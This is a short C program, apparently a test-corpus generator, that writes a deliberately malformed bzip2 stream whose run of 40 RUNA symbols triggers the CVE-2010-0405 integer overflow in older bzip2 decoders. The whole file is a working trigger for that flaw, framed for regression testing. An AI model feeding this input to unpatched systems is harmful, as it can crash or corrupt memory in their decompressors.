/*
 * bzip2-runs.c - the trigger of CVE-2010-0405 (tests/corpus/suggest): a
 * bzip2 stream, written on stdout, whose one block holds a run of 40 RUNA
 * symbols. Each RUNA doubles the run's weight N, so the 31st doubles it
 * past INT_MAX; bzip2 1.0.6 and later reject a run once N reaches 2^21.
 *
 * The block: one byte value in use ('a'), so the alphabet is RUNA, RUNB
 * and EOB; two Huffman tables (the fewest allowed), both with the code
 * lengths 1, 2, 2 (RUNA = 0, RUNB = 10, EOB = 11); one selector. Its CRC is
 * never reached: decoding stops at the run.
 */
#include <stdio.h>

static unsigned acc, nacc;

/* put: the N low bits of V, most significant first. */
static void put(unsigned long v, int n)
{
	while (n-- > 0) {
		acc = acc << 1 | ((v >> n) & 1);
		if (++nacc == 8) {
			putchar(acc);
			acc = nacc = 0;
		}
	}
}

/* lengths: one table's code lengths 1, 2, 2, delta-coded from 1. */
static void lengths(void)
{
	put(1, 5);	/* start at length 1 */
	put(0, 1);	/* RUNA: 1 */
	put(2, 2);	/* "10": one longer */
	put(0, 1);	/* RUNB: 2 */
	put(0, 1);	/* EOB: 2 */
}

int main(void)
{
	int i;

	put('B', 8), put('Z', 8), put('h', 8), put('9', 8);
	put(0x314159UL, 24), put(0x265359UL, 24);	/* block header */
	put(0, 32);		/* block CRC */
	put(0, 1);		/* not randomised */
	put(0, 24);		/* origPtr */
	put(1 << (15 - 6), 16);	/* byte values 0x60..0x6f in use ... */
	put(1 << (15 - 1), 16);	/* ... of which 0x61 */
	put(2, 3);		/* two tables */
	put(1, 15);		/* one selector */
	put(0, 1);		/* selector 0 */
	lengths();
	lengths();
	for (i = 0; i < 40; i++)
		put(0, 1);	/* RUNA */
	put(3, 2);		/* EOB */
	put(0x177245UL, 24), put(0x385090UL, 24), put(0, 32);	/* end of stream */
	put(0, 7);		/* flush */
	return 0;
}
